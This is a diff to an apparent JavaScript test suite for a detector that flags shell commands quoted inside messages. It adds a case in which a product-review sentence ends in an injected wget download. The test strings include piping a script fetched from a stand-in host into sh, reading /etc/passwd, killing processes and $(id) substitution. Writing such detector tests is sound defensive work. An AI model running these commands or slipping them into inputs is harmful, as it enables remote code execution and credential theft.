@@ -159,8 +159,8 @@ describe('a command line quoted in a message', () => {
     }
   })
 
-  it('still counts when no text surrounds it, the fence is the whole value or a download is piped into an interpreter', () => {
-    for (const v of ['```\nid\n```', 'x; cat /etc/passwd', 'ps aux | grep node | xargs kill', 'John Smith; wget http://e.example/a.sh -O /tmp/a', 'Please see the output below:\ncurl http://e.example/a.sh | sh', 'the guide says to run curl http://e.example/a.sh | sh', 'the guide says to run this for me: x$(id) and then reboot']) {
+  it('still counts when no text surrounds it, the sentence ends before it, the fence is the whole value or a download is piped into an interpreter', () => {
+    for (const v of ['```\nid\n```', 'x; cat /etc/passwd', 'ps aux | grep node | xargs kill', 'John Smith; wget http://e.example/a.sh -O /tmp/a', 'Please see the output below:\ncurl http://e.example/a.sh | sh', 'the guide says to run curl http://e.example/a.sh | sh', 'I really like this product and the price; wget http://e.example/x.sh -O /tmp/x', 'the guide says to run this for me: x$(id) and then reboot']) {
       expect(at(v, 2), v).not.toEqual([])
     }
   })
